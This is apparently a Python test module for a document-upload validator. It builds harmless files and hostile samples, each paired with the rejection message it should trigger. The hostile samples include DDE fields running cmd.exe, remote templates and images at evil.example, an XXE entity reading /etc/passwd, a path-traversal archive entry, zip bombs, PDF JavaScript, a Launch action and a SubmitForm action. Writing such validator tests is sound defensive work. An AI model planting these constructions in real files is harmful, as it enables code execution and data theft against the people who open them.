"""Uploads that must not come in, each made to fail for one reason; and a harmless one of each kind."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.documents.builders import opendocument as o
from tests.documents.builders import pdf as pdfs
from tests.documents.builders.archives import archive
from tests.documents.builders.word import RELATION, TYPE, docx, field, p, parts, t

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ODD_DOCTYPE = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def relation(kind: str, target: str, mode: str = "External") -> str:
    how = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r9" Type="{RELATION}/{kind}" Target="{target}"{how}/>'


def with_parts(**more: str | bytes) -> bytes:
    return archive({**parts(p("one two")), **{k.replace("__", "/"): v for k, v in more.items()}})


def with_part(name: str, content: str | bytes) -> bytes:
    return archive({**parts(p("one two")), name: content})


def settings_with_template(target: str) -> bytes:
    links = f'<Relationships xmlns="{PACKAGE}/relationships">{relation("attachedTemplate", target)}</Relationships>'
    return with_part("word/_rels/settings.xml.rels", links)


def xlsx(sheet: str = "<sheetData/>", **more: str | bytes) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/xl/workbook.xml" ContentType="{kind}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{relation("officeDocument", "xl/workbook.xml", "")}</Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{space}"/>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{space}">{sheet}</worksheet>',
            **more,
        }
    )


def pptx() -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/ppt/presentation.xml" ContentType="{kind}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{relation("officeDocument", "ppt/presentation.xml", "")}</Relationships>',
            "ppt/presentation.xml": "<p/>",
        }
    )


def picture(form: str = "PNG", size: tuple[int, int] = (4, 3), **options: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, form, **options)
    return made.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A picture of a few bytes that says it is huge."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content))
            + name
            + content
            + struct.pack(">I", zlib.crc32(name + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    content = bytearray(with_part("word/aaaa.bin", b"x" * 500))
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as target:
        first = target.getinfo("word/aaaa.bin")
        twin = zipfile.ZipInfo("word/bbbb.bin")
        twin.header_offset, twin.CRC = first.header_offset, first.CRC
        twin.compress_size, twin.file_size = first.compress_size, first.file_size
        twin.compress_type = first.compress_type
        target.filelist.append(twin)
        target.NameToInfo[twin.filename] = twin
        target._didModify = True
    return made.getvalue()


def locked_archive() -> bytes:
    """The flag of a password set on every entry."""
    content = bytearray(docx(p("one two")))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(magic)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(magic, at + 4)
    return bytes(content)


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def deep() -> bytes:
    return docx("<w:p>" * 400 + "</w:p>" * 400)


MACRO = f"{TYPE.replace('vnd.openxmlformats-officedocument.wordprocessingml', 'vnd.ms-word')}.document.macroEnabled.main+xml"
HARMLESS = {
    "work.docx": docx(p("one two")),
    "work.odt": o.odt(o.p("one two")),
    "figures.xlsx": xlsx(),
    "slides.pptx": pptx(),
    "scan.pdf": pdfs.raw("one two"),
    "photo.png": picture(),
    "photo.JPG": picture("JPEG"),
    "photo.jpeg": picture("JPEG"),
    "link.docx": docx(p("one"), relations=relation("hyperlink", "https://example.org/")),
    "own-template.docx": settings_with_template("file:///C:/Users/x/Normal.dotm"),
    "chart.docx": with_part("word/embeddings/Sheet1.xlsx", xlsx()),
    "toc.docx": docx(p(field(' TOC \\o "1-3" ', t("Aims")))),
}
EMBEDDED = "The file holds an embedded object from another program. Replace the object with a picture or text and send it again."
OVER = "Save it again from the program that made it."
UNREADABLE = "The file cannot be opened: it is damaged or not complete. Open it on your computer, save it again and send the new copy."
PASSWORD = "The file is protected with a password. Remove the password, save it and send it again."
MACROS = "The file holds macros. Save it as a document without macros (.docx, .xlsx or .pptx) and send it again."
LIVE = "The file holds a live data link (DDE) to another program. Replace the link with its text and send it again."
REMOTE = "The file loads pictures or other content from another computer. Insert the content itself and send it again."
TEMPLATE = "The file loads its template from another computer. Attach the Normal template instead and send it again."
OTHER = (
    "The file draws in another whole document. Copy the text into one document and send it again."
)
ENTITIES = "The file defines its own XML entities, which no office program does. Save it again from Word or LibreOffice."
NESTED = "The file has an archive hidden inside it. Remove the archive and send it again."
PDF_SCRIPT = "The PDF holds JavaScript. Print it to a new PDF and send that."
PDF_LAUNCH = "The PDF tries to start a program or send data when it is opened. Print it to a new PDF and send that."
PDF_FILES = "The PDF has other files attached inside it. Send those files separately, and the PDF without them."
HUGE = "The picture is too large: at most 12,000 pixels a side and 60 million in all. Make it smaller and send it again."


def inside(name: str, seen: str) -> str:
    return f"The file's name ends in {name}, but inside it is {seen}. Save it in the right format and send it again."


# what it is: (name, content, the sentence)
HOSTILE = {
    "empty": ("work.docx", b"", "The file is empty. Choose another file."),
    "a program by name": (
        "virus.exe",
        b"MZ",
        "A supporting document must be a .docx, .odt, .pdf, .xlsx, .pptx, .png or .jpg file.",
    ),
    "no ending": (
        "work",
        docx(p("a")),
        "A supporting document must be a .docx, .odt, .pdf, .xlsx, .pptx, .png or .jpg file.",
    ),
    "two endings": (
        "work.docx.exe",
        docx(p("a")),
        "A supporting document must be a .docx, .odt, .pdf, .xlsx, .pptx, .png or .jpg file.",
    ),
    "a picture named document": ("work.docx", picture(), inside(".docx", "a PNG picture")),
    "a PDF named document": ("work.docx", pdfs.raw("a"), inside(".docx", "a PDF")),
    "a program named PDF": ("work.pdf", b"MZ\x90\0" + b"\0" * 60, inside(".pdf", "a program")),
    "a web page named picture": (
        "photo.png",
        b"<html><script>alert(1)</script>",
        inside(".png", "a web page"),
    ),
    "rich text named document": (
        "work.docx",
        b"{\\rtf1 hello}",
        inside(".docx", "a rich text file (.rtf)"),
    ),
    "plain text named document": ("work.docx", b"just some words\n", inside(".docx", "plain text")),
    "a workbook named document": (
        "work.docx",
        xlsx(),
        inside(".docx", "an Excel workbook (.xlsx)"),
    ),
    "an archive named document": (
        "work.docx",
        archive({"a.txt": "x"}),
        inside(".docx", "a zip archive"),
    ),
    "an OpenDocument text named Word": (
        "work.docx",
        o.odt(o.p("a")),
        inside(".docx", "an OpenDocument text (.odt)"),
    ),
    "a template named document": (
        "work.docx",
        docx(p("a"), main_type=f"{TYPE}.template.main+xml"),
        inside(".docx", "a Word template"),
    ),
    "a JPEG named PNG": ("photo.png", picture("JPEG"), inside(".png", "a JPEG picture")),
    "half a document": ("work.docx", truncated(docx(p("one two"))), UNREADABLE),
    "half a picture": ("photo.png", truncated(picture(size=(400, 300))), UNREADABLE),
    "a broken PDF": ("scan.pdf", b"%PDF-1.4 and then nothing", UNREADABLE),
    "XML that does not close": ("work.docx", with_part("word/styles.xml", "<w:styles"), UNREADABLE),
    "a password of Office": (
        "work.docx",
        OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
        PASSWORD,
    ),
    "a password of zip": ("work.docx", locked_archive(), PASSWORD),
    "a password of OpenDocument": (
        "work.odt",
        o.odt(
            o.p("a"),
            manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
        ),
        PASSWORD,
    ),
    "a password of PDF": ("scan.pdf", pdfs.encrypted(), PASSWORD),
    "old Word": (
        "work.docx",
        OLE + b"\0" * 600,
        "The file is in the old Office format. Open it, choose 'Save as', pick the new format (such as .docx) and send that.",
    ),
    "macros by part": ("work.docx", with_part("word/vbaProject.bin", b"code"), MACROS),
    "macros by type": ("work.docx", docx(p("a"), main_type=MACRO), MACROS),
    "macros by relation": (
        "work.docx",
        docx(p("a"), relations=relation("vbaProject", "project.dat", "")),
        MACROS,
    ),
    "macros of OpenDocument": (
        "work.odt",
        archive({**o.parts(o.p("a")), "Basic/Standard/Module1.xml": "<x/>"}, stored=("mimetype",)),
        MACROS,
    ),
    "a script of OpenDocument": (
        "work.odt",
        o.odt(o.p("a") + "<script:event-listener/>"),
        "The document holds a script. Remove it, save it and send it again.",
    ),
    "an OLE object": ("work.docx", with_part("word/embeddings/oleObject1.bin", OLE), EMBEDDED),
    "an OLE object by relation": (
        "work.docx",
        docx(p("a"), relations=relation("oleObject", "x.bin", "")),
        EMBEDDED,
    ),
    "an embedded document": (
        "work.docx",
        with_part("word/embeddings/inner.docx", docx(p("a"))),
        EMBEDDED,
    ),
    "a workbook in a workbook": (
        "work.docx",
        with_part("word/embeddings/Sheet1.xlsx", xlsx(**{"xl/embeddings/inner.xlsx": xlsx()})),
        NESTED,
    ),
    "ActiveX": (
        "work.docx",
        with_part("word/activeX/activeX1.xml", "<x/>"),
        "The file holds an ActiveX control. Remove the control and send it again.",
    ),
    "a template on the web": (
        "work.docx",
        settings_with_template("https://evil.example/a.dotm"),
        TEMPLATE,
    ),
    "a template on a share": (
        "work.docx",
        settings_with_template(r"\\evil\share\a.dotm"),
        TEMPLATE,
    ),
    "a template by file address of a share": (
        "work.docx",
        settings_with_template("file://evil/share/a.dotm"),
        TEMPLATE,
    ),
    "a picture on the web": (
        "work.docx",
        docx(p("a"), relations=relation("image", "http://evil.example/pixel.png")),
        REMOTE,
    ),
    "a frame on the web": (
        "work.docx",
        docx(p("a"), relations=relation("frame", "http://evil.example/")),
        REMOTE,
    ),
    "a field that fetches": (
        "work.docx",
        docx(p(field(' INCLUDEPICTURE "http://evil.example/a.png" ', t("x")))),
        REMOTE,
    ),
    "a picture on the web in OpenDocument": (
        "work.odt",
        o.odt(o.p('<draw:frame><draw:image xlink:href="http://evil.example/a.png"/></draw:frame>')),
        REMOTE,
    ),
    "DDE": (
        "work.docx",
        docx(p(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', t("x")))),
        LIVE,
    ),
    "DDE in pieces": (
        "work.docx",
        docx(
            p(
                '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            )
        ),
        LIVE,
    ),
    "DDE in a simple field": (
        "work.docx",
        docx(p(f'<w:fldSimple w:instr="DDE cmd x">{t("x")}</w:fldSimple>')),
        LIVE,
    ),
    "DDE of a workbook": (
        "figures.xlsx",
        xlsx(
            **{
                "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            }
        ),
        LIVE,
    ),
    "DDE in a formula": (
        "figures.xlsx",
        xlsx("<sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData>"),
        LIVE,
    ),
    "DDE of OpenDocument": ("work.odt", o.odt("<text:dde-connection-decl/>" + o.p("a")), LIVE),
    "another document drawn in": ("work.docx", docx(p("a") + '<w:altChunk r:id="r9"/>'), OTHER),
    "a section from another file": (
        "work.odt",
        o.odt('<text:section><text:section-source xlink:href="other.odt"/></text:section>'),
        OTHER,
    ),
    "entities": ("work.docx", with_part("word/document.xml", f"{ODD_DOCTYPE}<x>&b;</x>"), ENTITIES),
    "an entity that reads a file": (
        "work.odt",
        archive(
            {
                **o.parts(o.p("a")),
                "content.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
            },
            stored=("mimetype",),
        ),
        ENTITIES,
    ),
    "a doctype alone": (
        "work.docx",
        with_part("word/styles.xml", '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'),
        ENTITIES,
    ),
    "a zip bomb": (
        "work.docx",
        with_part("word/media/a.bmp", b"\0" * 30_000_000),
        f"The file grows far beyond its size when it is unpacked. {OVER}",
    ),
    "thousands of parts": (
        "work.docx",
        archive({**parts(p("a")), **{f"word/p{n}.bin": b"" for n in range(4100)}}),
        f"The file is made of too many parts. {OVER}",
    ),
    "parts over each other": (
        "work.docx",
        overlapping(),
        f"The parts of the file lie over each other, as in a trap for readers. {OVER}",
    ),
    "a part that climbs out": (
        "work.docx",
        with_part("../../etc/cron.d/x", b"x"),
        f"The file holds parts with unsafe names. {OVER}",
    ),
    "an archive inside": (
        "work.docx",
        with_part("word/media/more.zip", archive({"a": "b"})),
        NESTED,
    ),
    "an archive inside, renamed": (
        "work.docx",
        with_part("word/media/more.png", archive({"a": "b"})),
        NESTED,
    ),
    "XML too deep": (
        "work.docx",
        deep(),
        f"The file's contents are nested too deeply to be read. {OVER}",
    ),
    "a picture that is an archive too": (
        "photo.png",
        picture() + archive({"a.txt": "x"}),
        f"The file is two kinds of file at once, which we do not accept. {OVER}",
    ),
    "a PDF that is an archive too": (
        "scan.pdf",
        pdfs.raw("a") + archive({"a.txt": "x"}),
        f"The file is two kinds of file at once, which we do not accept. {OVER}",
    ),
    "JavaScript of a PDF": (
        "scan.pdf",
        pdfs.raw("a", catalogue="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        PDF_SCRIPT,
    ),
    "JavaScript by an escaped name": (
        "scan.pdf",
        pdfs.raw("a", catalogue="/OpenAction << /S /#4aavaScript /#4a#53 (x) >>"),
        PDF_SCRIPT,
    ),
    "JavaScript in a compressed object": ("scan.pdf", pdfs.scripted_in_object_stream(), PDF_SCRIPT),
    "a PDF that starts a program": (
        "scan.pdf",
        pdfs.raw("a", page="/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        PDF_LAUNCH,
    ),
    "a PDF that sends data": (
        "scan.pdf",
        pdfs.raw("a", objects="6 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n"),
        PDF_LAUNCH,
    ),
    "a PDF with a file in it": ("scan.pdf", pdfs.attached(), PDF_FILES),
    "a PDF of very many parts": (
        "scan.pdf",
        pdfs.raw("a", objects="".join(f"{n} 0 obj\nnull\nendobj\n" for n in range(6, 60_100))),
        "The PDF is made of too many parts. Print it to a new PDF and send that.",
    ),
    "an XFA form": (
        "scan.pdf",
        pdfs.raw("a", catalogue="/AcroForm << /XFA (x) >>"),
        "The PDF is a fill-in form made of XFA parts. Print it to a new PDF and send that.",
    ),
    "a film in a PDF": (
        "scan.pdf",
        pdfs.raw("a", objects="6 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n"),
        "The PDF holds video, sound or 3D content. Print it to a new PDF and send that.",
    ),
    "a picture that says it is huge": ("photo.png", png_claiming(60_000, 60_000), HUGE),
    "a picture too long": ("photo.png", png_claiming(20_000, 10), HUGE),
}
